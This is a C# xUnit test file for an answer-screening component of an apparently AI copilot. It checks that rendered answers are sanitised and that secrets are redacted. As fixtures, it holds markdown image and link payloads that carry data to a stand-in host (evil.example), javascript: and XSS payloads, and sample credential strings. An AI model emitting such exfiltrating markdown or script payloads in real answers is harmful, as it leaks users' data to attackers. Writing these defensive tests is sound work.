using Copilot.Governance;
using Copilot.Governance.Screening;
using Xunit;

namespace Copilot.Tests.Governance.Screening;

public sealed class AnswerScreenTests
{
    private static readonly AnswerScreen Screen = new(new GovernanceOptions { AllowedLinkHosts = ["odoo.example"], KnownSecrets = ["correct-horse-battery"] });

    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=secret)", "x")]
    [InlineData("[click](https://evil.example/?d=1)", "click")]
    [InlineData("[click](javascript:alert(1))", "click")]
    [InlineData("[click](//evil.example/x)", "click")]
    [InlineData("[a](https://odoo.example@evil.example/)", "a")]
    [InlineData("see https://evil.example/x now", "see https:\\//evil.example/x now")]
    [InlineData("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>")]
    [InlineData("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>")]
    [InlineData("[ref]: https://evil.example/x", "[ref]\\: https:\\//evil.example/x")]
    [InlineData("\\\\<img src=x>", "\\\\&lt;img src=x>")]
    [InlineData("ht[](https://e.example)tps://evil.example", "https:\\//evil.example")]
    [InlineData("www.evil.example", "www\\.evil.example")]
    [InlineData("[x](https://odoo.example&#46;evil.example/)", "x")]
    public void What_could_act_or_carry_data_out_is_made_text(string answer, string shown)
        => Assert.Equal(shown, Screen.Clean(answer));

    [Theory]
    [InlineData("Free stock is 1,240 Units [S1]. It is < 5 days old.")]
    [InlineData("[S00042](https://odoo.example/odoo/sale.order/42) waits [S1][S2].")]
    [InlineData("[the passage](/api/v1/sources/t/S1) says \"30 days\".")]
    [InlineData("| a | b |\n| --- | --- |\n| 1 | 2 |")]
    [InlineData("\\<script\\> stays as the composer wrote it")]
    public void Ordinary_answers_stay_as_they_are(string answer)
        => Assert.Equal(answer, Screen.Clean(answer));

    [Theory]
    [InlineData("The key is AKIAIOSFODNN7EXAMPLE, use it.")]
    [InlineData("token: ghp_0123456789abcdefghijklmnopqrstuvwxyz")]
    [InlineData("Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P")]
    [InlineData("Host=db;Username=copilot;Password=tr0ub4dor&3;Database=x")]
    [InlineData("postgres://copilot:hunter2@db.internal/copilot")]
    [InlineData("AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==")]
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----")]
    [InlineData("-----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7 and nothing more")]
    [InlineData("Use the api_key = 9f8e7d6c5b4a39281706 for it")]
    [InlineData("The Passwort: Sommer2026! gilt")]
    [InlineData("sk-proj-AbCdEfGhIjKlMnOpQrStUvWx1234")]
    [InlineData("It is correct-horse-battery.")]
    public void A_secret_never_leaves(string answer)
    {
        var shown = Screen.Clean(answer);
        Assert.Contains(AnswerScreen.Removed, shown, StringComparison.Ordinal);
        Assert.DoesNotContain(Secrets, s => shown.Contains(s, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("The password must be changed every 90 days.")]
    [InlineData("Ask the secretary for the access key: she keeps it.")]
    [InlineData("Lot LOT-2026-0042-A and SKU GLV-NIT-L are free.")]
    [InlineData("Password: ask your administrator")]
    public void Talk_of_secrets_is_no_secret(string answer) => Assert.Equal(answer, Screen.Clean(answer));

    private static readonly string[] Secrets =
    [
        "AKIAIOSFODNN7EXAMPLE", "0123456789abcdefghijkl", "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "tr0ub4dor", "hunter2", "Eby8vdM02x", "MIIEpAIB", "9f8e7d6c", "Sommer2026", "AbCdEfGhIjKl", "correct-horse",
    ];
}
